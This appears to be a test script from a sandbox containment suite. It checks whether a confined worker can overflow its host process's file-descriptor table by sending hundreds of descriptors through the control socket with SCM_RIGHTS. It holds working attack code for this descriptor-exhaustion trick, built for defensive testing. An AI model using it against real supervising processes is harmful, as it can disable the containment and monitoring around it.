# attempt: send the host descriptors, more than it has room for
# expect: contained
# layer: host
# control: inside
# death: protocol|none
import array
import errno
import os
import socket
import stat
import time


def channel():
    """Gives the descriptor on which the worker talks to the host: the one socket beyond the standard streams."""
    for descriptor in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError as refusal:
            if refusal.errno != errno.EBADF:
                raise
    raise RuntimeError("no channel found")


def misuse(descriptor):
    # Each message carries as many as the kernel lets through; a host that takes them in runs out of its own.
    null = os.open("/dev/null", os.O_RDONLY)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 253))]
    with socket.socket(fileno=os.dup(descriptor)) as duplicate:
        for _ in range(8):
            duplicate.sendmsg([b"\xff" * 16], rights)
    os.close(null)


def control():
    """Misuses a pair of its own, and shows what a host at the other end would get."""
    host, worker = socket.socketpair()
    host.settimeout(2)
    misuse(worker.fileno())
    received = socket.recv_fds(host, 16, 253)[1]
    arrived = len(received) == 253
    for passed in received:
        os.close(passed)
    return "ESCAPED the other end got it" if arrived else "BLOCKED"


def attempt():
    try:
        misuse(channel())
    except PermissionError:
        # Since Linux 6.16 a host can refuse descriptors, and the kernel tells the sender.
        return "BLOCKED EPERM"
    # A host that takes them in ends this context for what came with them, before this wait is over.
    time.sleep(10)
    return "ESCAPED the host took them"


print(control() if globals().get("CONTROL") else attempt())
